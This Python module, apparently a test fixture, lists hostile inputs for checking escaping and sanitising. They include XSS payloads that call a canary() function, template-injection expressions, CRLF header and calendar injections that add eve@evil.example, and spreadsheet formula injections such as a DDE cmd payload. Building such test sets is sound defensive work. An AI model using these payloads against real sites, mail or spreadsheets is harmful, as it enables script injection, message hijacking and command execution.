"""What somebody might type who means harm: words that would do something if they were taken for more than text."""

ANSWER = "99463"
"""What a template would work out of 91*1093. Scripts call `canary()`."""

SCRIPTS = (
    "<script>canary()</script>", "</title><script>canary()</script>", "</textarea><script>canary()</script>",
    "</script><script>canary()</script>", "<!--><script>canary()</script>-->", "<scr<script>ipt>canary()</script>",
    "<ScRiPt\n>canary()</sCrIpT>", "<script src=data:,canary()></script>", "]]><script>canary()</script>",
    "<img src=x onerror=canary()>", "<svg onload=canary()>", "<svg/onload=canary()//", "<body onload=canary()>",
    "<iframe srcdoc='<script>parent.canary()</script>'>", "<iframe src=javascript:parent.canary()>",
    "<details open ontoggle=canary()>", "<video><source onerror=canary()>", "<object data=javascript:canary()>",
    "<embed src=javascript:canary()>", "<math><mtext></p><img src=x onerror=canary()>",
    "<style>@import'javascript:canary()'</style>", "<link rel=stylesheet href=javascript:canary()>",
    "<meta http-equiv=refresh content='0;url=javascript:canary()'>", "<base href=javascript:canary()//>",
)  # fmt: skip
BREAKERS = (
    '"><script>canary()</script>', "'><script>canary()</script>", '" autofocus onfocus=canary() x="',
    "' autofocus onfocus=canary() x='", " autofocus onfocus=canary() ", "`><img src=x onerror=canary()>",
    '\\"><img src=x onerror=canary()>', "&lt;script&gt;canary()&lt;/script&gt;", "&#60;img src=x onerror=canary()&#62;",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e", "%3Cscript%3Ecanary()%3C/script%3E", "';canary();//", '";canary();//',
)  # fmt: skip
ADDRESSES = (
    "javascript:canary()", "JaVaScRiPt:canary()", " \tjavascript:canary()", "java\nscript:canary()",
    "data:text/html,<script>canary()</script>", "vbscript:canary()", "//elsewhere.example/", "https://elsewhere.example/\"onx=1",
)  # fmt: skip
TEMPLATES = ("{{91*1093}}", "${91*1093}", "<%= 91*1093 %>", "#{91*1093}", "{% print(91*1093) %}")
LINES = (
    "x\r\nBcc: eve@evil.example\r\n\r\n<script>canary()</script>", "x\nSet-Cookie: eve=1", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "x\nATTACH:http://elsewhere.example", "x\u2028BEGIN:VALARM", "x\u0085ATTENDEE:mailto:eve@evil.example",
)  # fmt: skip
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "=cmd|'/C calc'!A0",
    '\r=HYPERLINK("http://elsewhere.example")',
)
ODD = ("\u202egnp.exe\u202c", "\ufeffx\u200b\u0300", "𝕏" * 300, "A" * 20_000)

HOSTILE = (*SCRIPTS, *BREAKERS, *ADDRESSES, *TEMPLATES, *LINES, *FORMULAS, *ODD)
